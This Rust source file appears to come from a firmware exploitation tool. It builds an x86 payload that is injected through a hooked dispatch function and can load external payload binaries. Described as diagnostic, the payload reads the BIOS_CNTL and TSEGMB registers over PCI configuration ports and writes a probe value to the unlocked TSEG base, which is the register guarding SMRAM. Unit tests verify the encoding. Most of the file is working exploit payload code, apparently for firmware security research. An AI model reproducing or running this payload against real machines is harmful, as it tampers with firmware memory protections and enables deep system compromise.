//! Diagnostic payload run by the hooked dispatch function
//!
//! On every call the payload counts its invocations. On the first call it
//! captures BIOS_CNTL and TSEGMB through the PCI configuration mechanism and,
//! unless TSEGMB is locked, writes a probe value to it. Results land in a
//! data slot embedded in the payload itself:
//!
//! | offset | size | content                  |
//! |--------|------|--------------------------|
//! | 0      | 1    | sentinel `0xff`          |
//! | 1      | 4    | invocation counter       |
//! | 5      | 1    | BIOS_CNTL (low byte)     |
//! | 6      | 4    | TSEGMB                   |
//!
//! The payload ends without a return and falls through into the relocated
//! instructions of the trampoline.

use crate::config::ExploitConfig;
use crate::error::PayloadError;
use data_types::pci::{CONFIG_ADDRESS_PORT, CONFIG_DATA_PORT};
use data_types::PciAddress;
use iced_x86::code_asm::{self, CodeAssembler};
use iced_x86::BlockEncoderOptions;
use log::debug;
use serde::{Deserialize, Serialize};
use std::path::Path;

pub const DATA_SLOT_SENTINEL: u8 = 0xff;
/// Sentinel plus the captured fields.
pub const DATA_SLOT_LEN: usize = 1 + DataSlotCapture::LEN;

/// LPC bridge BIOS control register.
pub const BIOS_CNTL: PciAddress = PciAddress::new(0, 31, 0, 0xdc);
/// TSEG memory base register of the host bridge.
pub const TSEGMB: PciAddress = PciAddress::new(0, 0, 0, 0xb8);
/// Written to TSEGMB when it is not locked.
pub const TSEGMB_PROBE: u32 = 0xff00_0001;
/// BIOS lock enable bit of BIOS_CNTL.
pub const BIOS_LOCK_ENABLE: u8 = 1;

macro_rules! assemble_template {
    ($assembler:ident, $ax:expr, $dx:expr, $si:expr) => {{
        let mut slot = $assembler.create_label();
        let mut capture = $assembler.create_label();
        let mut end = $assembler.create_label();

        $assembler.push($ax)?;
        $assembler.push($dx)?;
        $assembler.push($si)?;

        // pushes the address of the data slot
        $assembler.call(capture)?;
        $assembler.set_label(&mut slot)?;
        $assembler.db(&[DATA_SLOT_SENTINEL, 0, 0, 0, 0, 0, 0, 0, 0, 0])?;

        $assembler.set_label(&mut capture)?;
        $assembler.pop($si)?;
        $assembler.inc($si)?;
        $assembler.inc(code_asm::dword_ptr($si))?;
        $assembler.cmp(code_asm::byte_ptr($si), 1)?;
        $assembler.jne(end)?;

        $assembler.mov(code_asm::eax, BIOS_CNTL.config_address())?;
        $assembler.mov(code_asm::dx, CONFIG_ADDRESS_PORT as i32)?;
        $assembler.out(code_asm::dx, code_asm::eax)?;
        $assembler.mov(code_asm::dx, CONFIG_DATA_PORT as i32)?;
        $assembler.in_(code_asm::al, code_asm::dx)?;
        $assembler.mov(code_asm::byte_ptr($si + 4), code_asm::al)?;

        $assembler.mov(code_asm::eax, TSEGMB.config_address())?;
        $assembler.mov(code_asm::dx, CONFIG_ADDRESS_PORT as i32)?;
        $assembler.out(code_asm::dx, code_asm::eax)?;
        $assembler.mov(code_asm::dx, CONFIG_DATA_PORT as i32)?;
        $assembler.in_(code_asm::eax, code_asm::dx)?;
        $assembler.mov(code_asm::dword_ptr($si + 5), code_asm::eax)?;

        // TSEGMB lock bit
        $assembler.and(code_asm::eax, 1)?;
        $assembler.test(code_asm::eax, code_asm::eax)?;
        $assembler.jnz(end)?;

        $assembler.mov(code_asm::eax, TSEGMB.config_address())?;
        $assembler.mov(code_asm::dx, CONFIG_ADDRESS_PORT as i32)?;
        $assembler.out(code_asm::dx, code_asm::eax)?;
        $assembler.mov(code_asm::eax, TSEGMB_PROBE)?;
        $assembler.mov(code_asm::dx, CONFIG_DATA_PORT as i32)?;
        $assembler.out(code_asm::dx, code_asm::eax)?;

        $assembler.set_label(&mut end)?;
        $assembler.pop($si)?;
        $assembler.pop($dx)?;
        $assembler.pop($ax)?;

        slot
    }};
}

/// Machine code of the payload and where its data slot is.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PayloadImage {
    bytes: Vec<u8>,
    data_slot_offset: usize,
}

impl PayloadImage {
    /// Assembles the built-in payload for 32- or 64-bit code.
    pub fn assemble(bitness: u32) -> Result<Self, PayloadError> {
        let mut assembler = CodeAssembler::new(bitness)?;
        let slot = match bitness {
            32 => assemble_template!(assembler, code_asm::eax, code_asm::edx, code_asm::esi),
            64 => assemble_template!(assembler, code_asm::rax, code_asm::rdx, code_asm::rsi),
            other => return Err(PayloadError::UnsupportedBitness(other)),
        };

        let result =
            assembler.assemble_options(0, BlockEncoderOptions::RETURN_NEW_INSTRUCTION_OFFSETS)?;
        let data_slot_offset = result.label_ip(&slot)? as usize;
        let bytes = result.inner.code_buffer;
        debug!(
            "assembled {} byte {}-bit payload, data slot at 0x{:x}",
            bytes.len(),
            bitness,
            data_slot_offset
        );

        Self::from_parts(bytes, data_slot_offset)
    }

    /// Wraps externally assembled code after checking its data slot.
    pub fn from_parts(bytes: Vec<u8>, data_slot_offset: usize) -> Result<Self, PayloadError> {
        let slot = data_slot_offset
            .checked_add(DATA_SLOT_LEN)
            .and_then(|end| bytes.get(data_slot_offset..end))
            .ok_or(PayloadError::SlotOutOfBounds {
                offset: data_slot_offset,
                length: bytes.len(),
            })?;

        if slot[0] != DATA_SLOT_SENTINEL {
            return Err(PayloadError::MissingSentinel {
                offset: data_slot_offset,
            });
        }
        if slot[1..].iter().any(|byte| *byte != 0) {
            return Err(PayloadError::SlotNotZero {
                offset: data_slot_offset,
            });
        }

        Ok(PayloadImage {
            bytes,
            data_slot_offset,
        })
    }

    pub fn from_file<A: AsRef<Path>>(path: A, data_slot_offset: usize) -> Result<Self, PayloadError> {
        let bytes = std::fs::read(path)?;
        Self::from_parts(bytes, data_slot_offset)
    }

    /// The external payload named in `config`, or the built-in one.
    pub fn from_config(config: &ExploitConfig) -> Result<Self, PayloadError> {
        match (&config.payload, config.data_slot_offset) {
            (Some(path), Some(offset)) => Self::from_file(path, offset),
            (Some(_), None) => Err(PayloadError::MissingSlotOffset),
            (None, _) => Self::assemble(config.payload_bitness),
        }
    }

    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    pub fn len(&self) -> usize {
        self.bytes.len()
    }

    pub fn is_empty(&self) -> bool {
        self.bytes.is_empty()
    }

    /// Offset of the sentinel byte.
    pub fn data_slot_offset(&self) -> usize {
        self.data_slot_offset
    }

    /// Offset of the captured fields, right behind the sentinel.
    pub fn capture_offset(&self) -> usize {
        self.data_slot_offset + 1
    }
}

/// The data slot fields as read back after a resume.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct DataSlotCapture {
    pub counter: u32,
    pub bios_cntl: u8,
    pub tsegmb: u32,
}

impl DataSlotCapture {
    pub const LEN: usize = 4 + 1 + 4;

    pub fn parse(data: &[u8]) -> Option<Self> {
        match data {
            [c0, c1, c2, c3, bios_cntl, t0, t1, t2, t3, ..] => Some(DataSlotCapture {
                counter: u32::from_le_bytes([*c0, *c1, *c2, *c3]),
                bios_cntl: *bios_cntl,
                tsegmb: u32::from_le_bytes([*t0, *t1, *t2, *t3]),
            }),
            _ => None,
        }
    }

    /// Whether the payload ran at all.
    pub fn invoked(&self) -> bool {
        self.counter != 0
    }

    pub fn bios_lock_enabled(&self) -> bool {
        self.bios_cntl & (1 << BIOS_LOCK_ENABLE) != 0
    }
}

#[cfg(test)]
mod test {
    use super::*;
    use iced_x86::{Decoder, DecoderOptions, Mnemonic};

    fn contains_dword(bytes: &[u8], value: u32) -> bool {
        bytes.windows(4).any(|window| window == value.to_le_bytes())
    }

    #[test]
    fn test_register_addresses() {
        assert_eq!(BIOS_CNTL.config_address(), 0x8000_f8dc);
        assert_eq!(TSEGMB.config_address(), 0x8000_00b8);
    }

    #[test]
    fn test_assemble_32() {
        let payload = PayloadImage::assemble(32).unwrap();
        let bytes = payload.bytes();

        // three pushes and a call rel32
        assert_eq!(payload.data_slot_offset(), 8);
        assert_eq!(&bytes[..3], &[0x50, 0x52, 0x56]);
        assert_eq!(bytes[3], 0xe8);
        assert_eq!(
            &bytes[8..8 + DATA_SLOT_LEN],
            &[0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0]
        );
        assert_eq!(&bytes[bytes.len() - 3..], &[0x5e, 0x5a, 0x58]);

        assert!(contains_dword(bytes, 0x8000_f8dc));
        assert!(contains_dword(bytes, 0x8000_00b8));
        assert!(contains_dword(bytes, TSEGMB_PROBE));
    }

    #[test]
    fn test_assemble_64_decodes() {
        let payload = PayloadImage::assemble(64).unwrap();
        let bytes = payload.bytes();
        assert_eq!(payload.data_slot_offset(), 8);

        // the call lands right behind the data slot
        let mut decoder = Decoder::with_ip(64, &bytes[3..8], 3, DecoderOptions::NONE);
        let call = decoder.decode();
        assert_eq!(call.mnemonic(), Mnemonic::Call);
        assert_eq!(call.near_branch_target(), 8 + DATA_SLOT_LEN as u64);

        let code_start = payload.data_slot_offset() + DATA_SLOT_LEN;
        let mut decoder = Decoder::with_ip(
            64,
            &bytes[code_start..],
            code_start as u64,
            DecoderOptions::NONE,
        );
        let mnemonics: Vec<_> = decoder
            .iter()
            .map(|instruction| instruction.mnemonic())
            .collect();

        assert_eq!(mnemonics.iter().filter(|m| **m == Mnemonic::In).count(), 2);
        assert_eq!(mnemonics.iter().filter(|m| **m == Mnemonic::Out).count(), 4);
        assert!(!mnemonics.contains(&Mnemonic::Ret));
        assert!(!mnemonics.contains(&Mnemonic::INVALID));
        assert_eq!(&mnemonics[mnemonics.len() - 3..], &[Mnemonic::Pop; 3]);
    }

    #[test]
    fn test_assemble_unsupported() {
        assert!(matches!(
            PayloadImage::assemble(16),
            Err(PayloadError::UnsupportedBitness(16))
        ));
    }

    #[test]
    fn test_external_payload_validation() {
        let mut bytes = vec![0x90; 4];
        bytes.extend_from_slice(&[0xff, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        bytes.push(0xc3);

        let payload = PayloadImage::from_parts(bytes.clone(), 4).unwrap();
        assert_eq!(payload.capture_offset(), 5);
        assert_eq!(payload.len(), 15);

        assert!(matches!(
            PayloadImage::from_parts(bytes.clone(), 3),
            Err(PayloadError::MissingSentinel { offset: 3 })
        ));
        assert!(matches!(
            PayloadImage::from_parts(bytes.clone(), 6),
            Err(PayloadError::SlotOutOfBounds { .. })
        ));
        assert!(matches!(
            PayloadImage::from_parts(bytes.clone(), usize::MAX),
            Err(PayloadError::SlotOutOfBounds { .. })
        ));

        bytes[9] = 1;
        assert!(matches!(
            PayloadImage::from_parts(bytes, 4),
            Err(PayloadError::SlotNotZero { offset: 4 })
        ));
    }

    #[test]
    fn test_payload_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("payload.bin");
        let assembled = PayloadImage::assemble(32).unwrap();
        std::fs::write(&path, assembled.bytes()).unwrap();

        let loaded = PayloadImage::from_file(&path, assembled.data_slot_offset()).unwrap();
        assert_eq!(loaded, assembled);
        assert!(matches!(
            PayloadImage::from_file(dir.path().join("missing.bin"), 8),
            Err(PayloadError::Io(_))
        ));
    }

    #[test]
    fn test_from_config() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("payload.bin");
        let assembled = PayloadImage::assemble(64).unwrap();
        std::fs::write(&path, assembled.bytes()).unwrap();

        let config = ExploitConfig {
            payload_bitness: 64,
            ..Default::default()
        };
        assert_eq!(PayloadImage::from_config(&config).unwrap(), assembled);

        let config = ExploitConfig {
            payload: Some(path),
            ..Default::default()
        };
        assert!(matches!(
            PayloadImage::from_config(&config),
            Err(PayloadError::MissingSlotOffset)
        ));

        let config = ExploitConfig {
            data_slot_offset: Some(8),
            ..config
        };
        assert_eq!(PayloadImage::from_config(&config).unwrap(), assembled);
    }

    #[test]
    fn test_capture_parse() {
        let capture =
            DataSlotCapture::parse(&[0x01, 0, 0, 0, 0x2a, 0x01, 0x00, 0x00, 0xff]).unwrap();
        assert_eq!(
            capture,
            DataSlotCapture {
                counter: 1,
                bios_cntl: 0x2a,
                tsegmb: 0xff00_0001,
            }
        );
        assert!(capture.invoked());
        assert!(capture.bios_lock_enabled());

        let capture = DataSlotCapture::parse(&[0; 9]).unwrap();
        assert!(!capture.invoked());
        assert!(!capture.bios_lock_enabled());

        assert_eq!(DataSlotCapture::parse(&[0; 8]), None);
    }
}
